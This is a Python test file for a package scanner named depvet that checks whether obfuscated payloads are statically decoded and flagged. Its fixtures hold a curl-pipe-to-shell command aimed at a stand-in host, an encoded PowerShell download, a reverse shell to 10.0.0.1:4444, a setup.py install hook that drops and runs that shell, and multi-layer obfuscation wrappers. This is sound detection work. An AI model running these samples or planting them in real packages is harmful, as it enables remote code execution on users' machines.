"""Static layered decoding: payloads are decoded by depvet, never run, and scanned again."""

from __future__ import annotations

import ast
import base64
import binascii
import bz2
import codecs
import lzma
import time
import zlib

import pytest

from depvet.analysis.pyfacts import extract_facts, resolver
from depvet.analysis.pysource import parse_tolerant
from depvet.analysis.staticeval import StaticEvaluator
from depvet.model import RunContext, Severity
from tests.conftest import ScanFiles, rule_ids

PAYLOAD = "import os\nos.system('curl -s https://drop.example.invalid/s | sh')\n"


def evaluate(source: str) -> object:
    """The static value of the last expression of ``source``."""
    tree = ast.parse(source)
    facts = extract_facts(tree, RunContext.IMPORT)
    last = tree.body[-1]
    assert isinstance(last, ast.Expr)
    return StaticEvaluator(resolver(facts), facts.binding).evaluate(last.value)


def layered(code: str) -> tuple[str, list[str]]:
    """Wrap code in six layers (each a different decoder) and return the outermost expression."""
    data = code.encode()
    data = zlib.compress(data)
    data = base64.b85encode(data)
    data = lzma.compress(data)
    data = binascii.hexlify(data)
    text = codecs.encode(base64.b64encode(data).decode(), "rot13")
    reversed_text = text[::-1]
    expr = (
        "zlib.decompress(base64.b85decode(lzma.decompress(binascii.unhexlify("
        f"base64.b64decode(codecs.decode({reversed_text!r}[::-1], 'rot13'))))))"
    )
    return expr, ["reversal", "rot13", "base64", "hex", "lzma", "b85", "zlib"]


def test_six_layers_are_decoded_and_the_payload_scanned(scan_files: ScanFiles) -> None:
    expr, _ = layered(PAYLOAD)
    source = f"import base64, binascii, codecs, lzma, zlib\n\n\nexec({expr})\n"
    result = scan_files({"pkg/__init__.py": source})
    decoded = [f for f in result.findings if f.decoded is not None]
    assert decoded, result.findings
    # Findings inside the payload point at the original file and the line of the exec call.
    assert all(f.path == "pkg/__init__.py" and f.line == 4 for f in decoded)
    assert any("curl" in (f.decoded or "") for f in decoded)
    exec_decoded = [f for f in result.findings if f.rule_id == "DV201"]
    assert exec_decoded
    chain = exec_decoded[0].evidence
    for step in (
        "reversal",
        "rot13",
        "base64.b64decode",
        "binascii.unhexlify",
        "lzma.decompress",
        "base64.b85decode",
        "zlib.decompress",
    ):
        assert step in chain


def test_nested_exec_layers_are_followed(scan_files: ScanFiles) -> None:
    code = PAYLOAD
    for _ in range(5):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"
    result = scan_files({"setup.py": code})
    layers = [f for f in result.findings if "[decoded, layer 5:" in f.evidence]
    assert layers
    assert "DV001" not in rule_ids(result)


def test_decoding_stops_at_the_layer_limit_and_says_so(scan_files: ScanFiles) -> None:
    code = PAYLOAD
    for _ in range(10):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"
    result = scan_files({"setup.py": code})
    assert "DV001" in rule_ids(result)


def test_obfuscator_lambda_template_is_decoded(scan_files: ScanFiles) -> None:
    blob = base64.b64encode(zlib.compress(PAYLOAD.encode()))[::-1]
    source = (
        "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
        f"exec((_)({blob!r}))\n"
    )
    result = scan_files({"pkg/__init__.py": source})
    assert "DV201" in rule_ids(result)
    assert any("curl" in (f.decoded or "") for f in result.findings)


def test_python_c_and_powershell_payloads_are_decoded(scan_files: ScanFiles) -> None:
    ps = base64.b64encode("Invoke-WebRequest -Uri https://x.invalid/a.exe -OutFile a.exe".encode("utf-16-le"))
    source = (
        "import subprocess, sys\n"
        f"subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {ps.decode()}')\n"
        "subprocess.Popen([sys.executable, '-c', 'import os; os.system(\"id\")'])\n"
    )
    result = scan_files({"setup.py": source})
    decoded_chains = {f.evidence.split("]")[0] for f in result.findings if f.evidence.startswith("[decoded")}
    assert any("python -c" in chain for chain in decoded_chains)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("''.join(chr(c) for c in [101, 120, 101, 99])", "exec"),
        ("''.join(map(chr, [115, 121, 115, 116, 101, 109]))", "system"),
        ("'metsys'[::-1]", "system"),
        ("import codecs\ncodecs.decode('flfgrz', 'rot13')", "system"),
        ("bytes.fromhex('73797374656d').decode()", "system"),
        (f"import base64\nbase64.b32decode({base64.b32encode(b'system').decode()!r}).decode()", "system"),
        ("key = 7\nbytes([b ^ key for b in bytes([116, 126, 116, 115, 98, 106])]).decode()", "system"),
        ("x = 'sys'\nx += 'tem'\nx", "system"),
        ("f = lambda s: s[::-1]\nf('metsys')", "system"),
        ("'%s%s' % ('sys', 'tem')", "system"),
    ],
)
def test_evaluator_understands_common_idioms(source: str, expected: str) -> None:
    assert evaluate(source) == expected


@pytest.mark.parametrize(
    "source",
    [
        "'x' * 10 ** 12",
        "import zlib\nzlib.decompress(" + repr(zlib.compress(b"\0" * (64 * 1024 * 1024))) + ")",
        "import bz2\nbz2.decompress(" + repr(bz2.compress(b"\0" * (64 * 1024 * 1024))) + ")",
        "open('/etc/passwd').read()",
        "__import__('os').getcwd()",
    ],
)
def test_evaluator_refuses_what_it_cannot_or_should_not_compute(source: str) -> None:
    started = time.monotonic()
    assert evaluate(source) is None
    assert time.monotonic() - started < 5


def test_python2_sources_are_repaired_line_by_line() -> None:
    source = (
        "import os\n"
        "print 'installing'\n"
        "try:\n"
        "    os.system('id')\n"
        "except Exception, e:\n"
        "    print >>sys.stderr, e\n"
        "exec 'import socket'\n"
        "os.chmod('/tmp/x', 0755)\n"
    )
    parsed = parse_tolerant(source)
    assert parsed is not None
    calls = {ast.unparse(n.func) for n in ast.walk(parsed.tree) if isinstance(n, ast.Call)}
    assert {"os.system", "exec", "os.chmod"} <= calls


def test_builtin_looked_up_through_the_text_of_other_builtins_is_decoded(scan_files: ScanFiles) -> None:
    # 'chr' spelled from str(oct)[-3], str(hex)[-4] and str(copyright)[4]; then 'exec' from codes.
    code = (
        "import sys\nfrom setuptools import setup\n"
        "c = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])\n"
        "name = ''.join(map(c, [(7 << 4) - 7, 120, 101, 99]))\n"
        "setup(name='x')\n"
    )
    result = scan_files({"setup.py": code}, artifact="sdist")
    hidden = [f for f in result.findings if f.rule_id == "DV205"]
    assert hidden
    assert "'chr'" in hidden[0].evidence


def test_a_plain_getattr_on_builtins_with_a_literal_name_is_not_hidden(scan_files: ScanFiles) -> None:
    code = "import builtins\n\ndef kind(name):\n    return getattr(builtins, 'int')\n"
    assert "DV205" not in rule_ids(scan_files({"pkg/__init__.py": "", "pkg/types.py": code}))


_DROPPED = (
    "import socket, os, subprocess\\n"
    "s = socket.socket()\\ns.connect(('10.0.0.1', 4444))\\n"
    "os.dup2(s.fileno(), 0)\\nos.dup2(s.fileno(), 1)\\nsubprocess.call(['/bin/sh', '-i'])\\n"
)


def test_a_script_written_to_disk_is_scanned_as_code(scan_files: ScanFiles) -> None:
    setup = (
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        f'CODE = "{_DROPPED}"\n'
        "class Run(install):\n    def run(self):\n"
        "        with open('/tmp/r.py', 'w') as f:\n            f.write(CODE)\n"
        "        subprocess.Popen(['python3', '/tmp/r.py'])\n"
        "setup(name='x', cmdclass={'install': Run})\n"
    )
    result = scan_files({"setup.py": setup}, artifact="sdist")
    written = [f for f in result.findings if "written as a script" in f.evidence]
    assert written
    assert max(f.severity.rank for f in written) >= Severity.HIGH.rank


def test_a_generated_version_file_is_not_a_payload(scan_files: ScanFiles) -> None:
    setup = (
        "from setuptools import setup\n"
        'TEMPLATE = \'# generated\\nversion = "1.0"\\nrevision = "abc"\\nrelease = True\\n\'\n'
        "with open('pkg/_version.py', 'w') as f:\n    f.write(TEMPLATE)\nsetup(name='x')\n"
    )
    result = scan_files({"setup.py": setup}, artifact="sdist")
    assert not [f for f in result.findings if "written as a script" in f.evidence]
